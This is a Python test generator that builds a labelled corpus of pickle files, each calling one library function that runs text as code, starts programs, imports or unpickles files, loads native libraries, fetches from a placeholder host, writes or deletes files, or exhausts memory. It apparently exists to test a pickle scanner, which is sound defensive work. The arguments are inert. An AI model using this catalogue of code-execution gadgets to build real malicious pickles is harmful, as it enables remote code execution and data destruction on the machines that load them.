"""Callables of many libraries that run, import, load, fetch or write what their argument says. All names exist in the
libraries' published versions (checked by verify.py --names); the arguments are inert.
"""
from frame import *

INNER = pk(call(G("webbrowser:open"), u(MARK)))  # the pickle that loaders of bytes get
MISSING = f"/nonexistent/{MARK}"
EXPR = f"'{MARK}'"

# technique: (expected, reason, rows of (module:name, arguments))
TABLE = {
    "ml-text-to-code": ("block", "runs text as Python", [
        ("fastcore.basics:exec_new", (EXPR,)), ("fastcore.basics:exec_local", (f"x={EXPR}", "x")), ("fastcore.xtras:exec_eval", (EXPR,)), ("coremltools.optimize.torch._utils.torch_utils:list_or_str_to_tensor", (EXPR,)),
        ("openvino.frontend.pytorch.utils:build_wrapper", (EXPR, None)), ("hummingbird.ml.operator_converters.xgb:convert_sklearn_xgb_regressor", (EXPR, "cpu", {})),
    ]),
    "compiler-text-to-code": ("block", "compiles and runs text", [
        ("pytensor.link.utils:compile_function_src", (f"def f(): return {EXPR}", "f", {})), ("numba.core.sigutils:_parse_signature_string", (EXPR,)), ("sympy.parsing.ast_parser:parse_expr", (EXPR, {})),
        ("scipy.optimize._nonlin:_nonlin_wrapper", (f"f(x={EXPR}): pass\ndef g", Op(G("scipy.optimize._nonlin:BroydenFirst")))), ("sympy.parsing.sympy_parser:eval_expr", (EXPR, {}, {})), ("pytensor.link.numba.cache:compile_numba_function_src", (f"def f(): return {EXPR}", "f", {})),
    ]),
    "torch-text-to-code": ("block", "runs text as Python inside torch", [
        ("torch.fx.graph_module:_exec_with_source", (EXPR, {})), ("torch._inductor.standalone_compile:load_from_python", (EXPR,)), ("torch._inductor.kernel.gemm_epilogue_codegen:materialize_epilogue_function", (EXPR, "f")), ("torch._precompile:_make_inlined_forward", (EXPR,)),
        ("torch.fx.operator_schemas:_torchscript_type_to_python_type", (EXPR,)), ("torch.fx.graph_module:reduce_graph_module", ({"_code": f"def forward(self): return {EXPR}"}, "")),
    ]),
    "serializer-text-to-code": ("block", "runs text in another serializer", [
        ("dill._dill:_eval_repr", (EXPR,)), ("dill.source:_getimport", ("jw_inert", "x")), ("jsonpickle.unpickler:loadrepr", (f"builtins/{EXPR}",)), ("twisted.persisted.sob:loadValueFromFile", (MISSING, "x")), ("dill.temp:load_source", (MISSING,)), ("ignite.distributed.comp_models.base:ComputationModel._decode_as_placeholder", ([], "cpu")),
    ]),
    "web-text-to-code": ("block", "runs text in a web or database library", [
        ("tornado.util:exec_in", (EXPR, {})), ("sqlalchemy.util.langhelpers:exec_code_in_env", (EXPR, {}, "f")), ("sqlalchemy.util.langhelpers:attrsetter", (EXPR,)), ("mako.template:Template", (f"<%! x = {EXPR} %>",)), ("tornado.template:Template", (f"{{{{ {EXPR} }}}}",)), ("sqlalchemy.util.typing:eval_expression", (EXPR, "builtins")),
    ]),
    "stdlib-text-to-code": ("block", "runs text in a corner of the standard library", [
        ("multiprocessing.spawn:_fixup_main_from_path", (MISSING,)), ("dataclasses:_create_fn", ("f", [], [EXPR])), ("multiprocessing.sharedctypes:make_property", (f"x#{MARK}",)), ("idlelib.calltip:get_entity", (EXPR,)), ("turtle:read_docstrings", (MARK,)), ("distutils.core:run_setup", (MISSING + ".py",)),
    ]),
    "ml-processes": ("block", "starts a program", [
        ("spacy.util:run_command", ([MARK],)), ("wandb.docker:shell", ([MARK],)), ("wandb.docker:run_command_live_output", ([MARK],)), ("mlflow.utils.requirements_utils:_run_command", ([MARK], 1)), ("speechbrain.utils.superpowers:run_shell", (MARK,)), ("fastcore.xtras:run", (MARK,)),
    ]),
    "serving-processes": ("block", "starts a program", [
        ("huggingface_hub.utils._subprocess:run_subprocess", ([MARK],)), ("ray._private.runtime_env.conda_utils:exec_cmd", ([MARK],)), ("monai.utils.misc:run_cmd", ([MARK],)), ("mmengine.utils.package_utils:call_command", ([MARK],)), ("paddle.base.core:run_shell_command", (MARK,)), ("kedro.framework.cli.utils:call", ([MARK],)),
    ]),
    "science-processes": ("block", "starts a program", [
        ("deepchem.utils.sequence_utils:system_call", (MARK,)), ("ase.calculators.turbomole.reader:execute_command", ([MARK],)), ("ase.calculators.castep:shell_stdouterr", (MARK,)), ("pytensor.utils:subprocess_Popen", ([MARK],)), ("numexpr.cpuinfo:getoutput", ([MARK],)), ("torch._inductor.cpp_builder:_compiler_version_string", (MARK,)),
    ]),
    "tool-processes": ("block", "starts a program", [
        ("sympy.printing.preview:system_default_viewer", (MISSING, "png")), ("pexpect.popen_spawn:PopenSpawn", (MARK,)), ("twisted.python.release:sh", (MARK,)), ("setuptools._distutils.spawn:spawn", ([MARK],)), ("metaflow.metaflow_git:_call_git", ([MARK],)), ("transformers.pipelines.audio_utils:_ffmpeg_stream", ([MARK], 1)),
    ]),
    "import-from-file": ("block", "runs a Python file that the argument names", [
        ("spacy.util:import_file", ("jw", MISSING)), ("distributed.utils:import_file", (MISSING + ".py",)), ("speechbrain.utils.superpowers:import_from_path", (MISSING,)), ("mne.commands.utils:load_module", ("jw", MISSING)), ("fastcore.xtras:load_mod", ("jw", MISSING + ".py")), ("sympy.utilities._compilation.util:import_module_from_file", (MISSING,)),
    ]),
    "import-remote-script": ("block", "fetches or unpacks code and runs it", [
        ("distributed.preloading:_download_module", (f"http://{HOST}/{MARK}.py",)), ("torch.hub:_import_module", ("jw", MISSING)), ("datasets.load:import_main_class", (MISSING,)), ("metaflow.R:load_module_from_path", ("jw", MISSING)), ("mako.compat:load_module", ("jw", MISSING + ".py")), ("diffusers.utils.dynamic_modules_utils:get_class_in_module", ("Jw", MISSING)),
    ]),
    "load-other-file": ("block", "loads another pickle, whose code runs", [
        ("flair.data:Dictionary.load_from_file", (MISSING,)), ("gensim.utils:unpickle", (MISSING,)), ("speechbrain.dataio.dataio:load_pickle", (MISSING,)), ("mlflow.pmdarima:_load_model", (MISSING,)), ("stable_baselines3.common.save_util:load_from_pkl", (MISSING,)), ("deepchem.utils.data_utils:load_pickle_file", (MISSING,)),
    ]),
    "load-other-checkpoint": ("block", "loads another checkpoint, whose code runs", [
        ("torch_geometric.io.fs:torch_load", (MISSING,)), ("torch._dynamo.replay_record:ExecutionRecord.load", (MISSING,)), ("accelerate.utils.other:load", (MISSING,)), ("fastai.learner:load_learner", (MISSING,)), ("tracemalloc:Snapshot.load", (MISSING,)), ("mmengine.runner.checkpoint:load_from_local", (MISSING, "cpu")),
    ]),
    "load-bytes": ("block", "unpickles the bytes it is given", [
        ("distributed.protocol.pickle:loads", (INNER,)), ("numba.core.serialize:_numba_unpickle", (1, INNER, b"x")), ("sktime.base._base:BaseObject.load_from_serial", (INNER,)), ("paddle.distributed.rpc.internal:_deserialize", (INNER,)), ("torch._export.serde.serialize:deserialize_torch_artifact", (INNER,)), ("ray.data.preprocessor:Preprocessor.deserialize", (INNER.hex(),)),
    ]),
    "load-native": ("block", "loads a native library", [
        ("paddle._ops:load_library", (MISSING + ".so",)), ("paddle.base.core:load_dso", (MISSING + ".so",)), ("tensorflow.python.framework.load_library:load_op_library", (MISSING + ".so",)), ("tensorflow.lite.python.interpreter:Delegate", (MISSING + ".so",)),
        ("torch.cuda.memory:CUDAPluggableAllocator", (MISSING + ".so", "a", "f")), ("numba.cuda.cudadrv.libs:open_cudalib", (MARK,)),
    ]),
    "library-fetches": ("block", "fetches from the network", [
        ("fastcore.net:urlread", (f"http://{HOST}/",)), ("gensim.downloader:_load_info", (f"http://{HOST}/",)), ("transformers.image_utils:load_image", (f"http://{HOST}/x.png",)), ("diffusers.utils.loading_utils:load_image", (f"http://{HOST}/x.png",)), ("fsspec.implementations.github:GithubFileSystem", (MARK, MARK)), ("IPython.utils.openpy:read_py_url", (f"http://{HOST}/",)),
    ]),
    "stdlib-connects": ("block", "its constructor opens a connection", [
        ("nntplib:NNTP", (HOST,)), ("poplib:POP3", (HOST,)), ("telnetlib:Telnet", (HOST,)), ("imaplib:IMAP4", (HOST,)), ("multiprocessing.connection:Client", ((HOST, 1),)), ("ftplib:FTP", (HOST,)),
    ]),
    "library-writes": ("block", "writes a file", [
        ("gensim.utils:pickle", (MARK, MISSING)), ("fastcore.tools:create_file", (MISSING, MARK)), ("ultralytics.utils:YAML.save", (MISSING, {})), ("transformers.models.m2m_100.tokenization_m2m_100:save_json", ({}, MISSING)), ("mlflow.gateway.config:_save_route_config", ({}, MISSING)), ("fastcore.xtras:save_config_file", (MISSING, {})),
    ]),
    "library-removes": ("block", "removes, copies or unpacks files", [
        ("keras.src.utils.file_utils:rmtree", (MISSING,)), ("keras.src.utils.file_utils:copy", (MISSING, MISSING)), ("keras.src.utils.file_utils:extract_archive", (MISSING, MISSING)), ("datasets.utils.extract:TarExtractor.extract", (MISSING, MISSING)), ("fastcore.xtras:untar_dir", (MISSING, MISSING)), ("keras.src.utils.file_utils:remove", (MISSING,)),
    ]),
    "stdlib-opens-files": ("block", "opens a file of its choice", [
        ("logging:FileHandler", (MISSING,)), ("shelve:open", (MISSING,)), ("sqlite3:connect", (MISSING,)), ("netrc:netrc", (MISSING,)), ("mailbox:mbox", (MISSING,)), ("dbm.dumb:open", (MISSING, "c")),
    ]),
    "array-file-access": ("block", "reads or writes a file through a trusted package", [
        ("numpy:fromfile", ("/etc/hostname", "u1")), ("numpy:memmap", (MISSING, "u1", "w+", 0, (4,))), ("numpy:savetxt", (MISSING, [1.0])), ("numpy:genfromtxt", ("/etc/hostname",)), ("scipy.io:savemat", (MISSING, {})), ("numpy:loadtxt", (f"http://{HOST}/x",)),
    ]),
    "frame-file-access": ("block", "reads or writes a file through a trusted package", [
        ("pandas:read_csv", (f"http://{HOST}/x.csv",)), ("pandas:read_xml", (MISSING,)), ("pandas:HDFStore", (MISSING,)), ("torch:save", (MARK, MISSING)), ("torchvision.io:write_file", (MISSING, None)), ("sklearn.datasets:load_svmlight_file", (MISSING,)),
    ]),
    "exhaustion-by-call": ("block", "takes all memory or time of the reader", [
        ("time:sleep", (10**9,)), ("math:factorial", (10**9,)), ("builtins:bytearray", (10**13,)), ("numpy:zeros", ((10**6, 10**7),)), ("builtins:list", (Op(do("itertools:repeat", 0)),)), ("re:match", ("(a+)+$", "a" * 60 + "!")),
    ]),
    "process-state": ("review", "changes the state of the reading process, which no model needs", [
        ("warnings:simplefilter", ("ignore",)), ("logging:disable", (50,)), ("random:seed", (0,)), ("locale:setlocale", (6, "C")), ("sys:setrecursionlimit", (10**6,)), ("torch:manual_seed", (1,)),
    ]),
}

# A first call gives a callable by its name as text, a second calls it: the dangerous name is a string.
BY_NAME = {
    "dotted-name-helpers": [
        ("transformers.exporters.utils:import_dotted_path", ("webbrowser.open",)), ("sentence_transformers.util.misc:import_from_string", ("shutil.rmtree",)), ("timm.optim._optim_factory:_import_class", ("pty.spawn",)), ("ray._common.utils:load_class", ("cProfile.run",)), ("jsonpickle.unpickler:loadclass", ("code.interact",)), ("pytorch_lightning.cli:instantiate_class", ((), {"class_path": "ctypes.CDLL", "init_args": {"name": MARK}})),
    ],
    "framework-name-helpers": [
        ("werkzeug.utils:import_string", ("webbrowser:open",)), ("tornado.util:import_object", ("pty.spawn",)), ("twisted.python.reflect:namedAny", ("shutil.rmtree",)), ("IPython.utils.importstring:import_item", ("profile.run",)), ("distlib.util:resolve", ("shutil", "rmtree")), ("skorch.cli:_resolve_dotted_name", ("code.interact",)),
    ],
}

k = 0
for technique, (expected, reason, rows) in TABLE.items():
    for dotted, args in rows:
        pickled("callables", technique, dotted.replace(":", ".").replace("/", "-"), expected, f"{dotted.replace(':', '.')} {reason}", k, do(dotted, *args))
        k += 1
for technique, rows in BY_NAME.items():
    for dotted, args in rows:
        body = do(dotted, *args)
        if "instantiate" not in dotted: body += tup(u(MARK)) + b"R"
        pickled("callables", technique, dotted.replace(":", "."), "block", f"{dotted.replace(':', '.')} looks a callable up by text, and it is called", k, body)
        k += 1
